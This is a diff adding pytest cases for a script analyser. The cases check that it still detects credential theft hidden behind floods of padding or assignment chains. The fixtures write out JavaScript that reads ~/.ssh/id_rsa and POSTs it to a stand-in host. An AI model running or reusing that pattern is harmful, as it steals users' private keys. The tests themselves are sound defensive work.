@@ -154,3 +154,29 @@ def test_honest_python_as_a_whole(text: str) -> None:
     assert not {"script-waits-for-date", "script-writes-agent-files"} & {
         item.rule for item in analyse(text, "python").findings
     }
+
+
+READ = 'const d = fs.readFileSync(os.homedir() + "/.ssh/id_rsa");\n' + "// ok\n" * 400
+SEND = 'fetch("https://c.example.net/u", {method: "POST", body: d});\n'
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        READ + "r.send(a);\n" * 2000 + SEND,
+        "x = 1;\n" * 3000 + READ + SEND,
+        READ.replace("const d", "const a0")
+        + "".join(f"const a{n} = a{n - 1};\n" for n in range(20, 0, -1))
+        + SEND.replace("body: d", "body: a20"),
+    ],
+    ids=["calls", "assignments", "chain"],
+)
+def test_what_is_not_followed_to_its_end_is_said(text: str) -> None:
+    """A flood of harmless calls or names in front of the one that counts does not go unnoticed."""
+    assert "script-not-analysed" in {item.rule for item in sent(text)}
+    assert not sent(text.replace(".ssh/id_rsa", "notes/today"))
+
+
+def test_some_hundred_calls_are_followed() -> None:
+    """A long honest client is no reason to look no further."""
+    assert {item.rule for item in sent(READ + "r.json();\n" * 400 + SEND)} == {"script-sends-credentials"}
